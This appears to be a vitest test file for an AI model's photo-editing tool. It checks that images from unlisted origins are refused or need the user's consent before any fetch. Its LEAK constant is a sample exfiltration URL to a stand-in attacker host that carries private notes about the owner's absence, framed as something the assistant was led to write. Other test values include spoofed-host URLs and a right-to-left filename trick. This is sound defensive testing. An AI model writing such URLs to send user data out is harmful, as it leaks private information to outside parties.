import { describe, expect, test } from 'vitest';
import { temporaryFolder } from '../../setup/temporary-folder.ts';
import { fakeService } from '../client/fake-service.ts';
import { type AssistantOptions, startAssistant } from './assistant.ts';

/** What the assistant was led to write. */
const LEAK = 'https://evil.example/room.jpg?notes=the+owner+is+away+until+May';
const ALLOWED = 'https://photos.example/room.jpg';
const edit = (image: string, tool = 'declutter') => ({ image, tool });

/** @returns an assistant, and the URLs that the service was asked to fetch */
async function assistant(options: AssistantOptions = {}) {
  const fetched: string[] = [];
  const service = fakeService({
    async answer(_url, { body }) {
      if (typeof body === 'string') fetched.push(JSON.parse(body).image_url);
      return undefined;
    },
  });
  const { call } = await startAssistant({
    apiKey: 'ij_key',
    baseUrl: 'https://api.example.com/api',
    folders: [temporaryFolder()],
    imageOrigins: ['https://photos.example'],
    fetch: service.fetch,
    ...options,
  });
  return { call, fetched };
}

const asked = (action: 'accept' | 'decline', confirm = true) => {
  const messages: string[] = [];
  const elicit = (message: string) => {
    messages.push(message);
    return action === 'accept' ? { action, content: { confirm } } : { action };
  };
  return { messages, elicit };
};

test('a photo is fetched without a question from an origin that is allowed', async () => {
  const { messages, elicit } = asked('decline');
  const { call, fetched } = await assistant({ elicit });
  expect(await call('edit_photo', edit(ALLOWED))).toMatchObject({ isError: false });
  expect([fetched, messages]).toEqual([[ALLOWED, ALLOWED], []]);
});

describe('from another origin', () => {
  test('nothing is fetched where nobody can be asked', async () => {
    const { call, fetched } = await assistant();
    expect(await call('edit_photo', edit(LEAK))).toMatchObject({
      isError: true,
      text: expect.stringContaining('https://evil.example is not in IMAGE_JOB_IMAGE_ORIGINS'),
    });
    expect(fetched).toEqual([]);
  });

  test.each([
    ['that is declined', asked('decline')],
    ['without a yes', asked('accept', false)],
  ])('nothing is fetched after a question %s', async (_how, { elicit }) => {
    const { call, fetched } = await assistant({ elicit });
    expect(await call('edit_photo', edit(LEAK))).toMatchObject({
      isError: true,
      text: 'The user did not agree to fetch the photo from evil.example. Nothing was fetched.',
    });
    expect(fetched).toEqual([]);
  });

  test('the user sees the whole URL first, once', async () => {
    const { messages, elicit } = asked('accept');
    const { call, fetched } = await assistant({ elicit });
    for (const tool of ['declutter', 'declutter', 'sky-replacement'])
      expect((await call('edit_photo', edit(LEAK, tool))).isError).toBe(false);
    expect(messages).toEqual([
      `evil.example would be asked for a photo, and learns all of this URL: ${LEAK} Go on?`,
    ]);
    expect(new Set(fetched)).toEqual(new Set([LEAK]));
    await call('edit_photo', edit(`${LEAK}+2027`));
    expect(messages).toHaveLength(2);
  });

  test.each([
    'https://photos.example.evil.example/a.jpg',
    'https://photos.example:8443/a.jpg',
    'http://photos.example/a.jpg',
    'HTTPS://EVIL.EXAMPLE/photos.example',
  ])('as %s is', async (url) => {
    const { call, fetched } = await assistant();
    expect((await call('edit_photo', edit(url))).text).toContain('is not in IMAGE_JOB_IMAGE_ORIGINS');
    expect(fetched).toEqual([]);
  });

  test('a right-to-left name is shown as it is called', async () => {
    const { messages, elicit } = asked('decline');
    const { call } = await assistant({ elicit });
    await call('edit_photo', edit('https://evil.example/\u202egpj\u0007.moor'));
    expect(messages.join()).toContain('https://evil.example/%E2%80%AEgpj%07.moor');
  });
});

test.each([
  ['a user name', 'https://photos.example@evil.example/a.jpg', 'must have no user name or password'],
  ['2,023 characters', `https://photos.example/${'a'.repeat(2000)}`, 'is longer than 2000 characters'],
])('a URL with %s is refused unasked', async (_what, url, message) => {
  const { messages, elicit } = asked('accept');
  const { call, fetched } = await assistant({ elicit });
  expect((await call('edit_photo', edit(url))).text).toContain(message);
  expect([messages, fetched]).toEqual([[], []]);
});
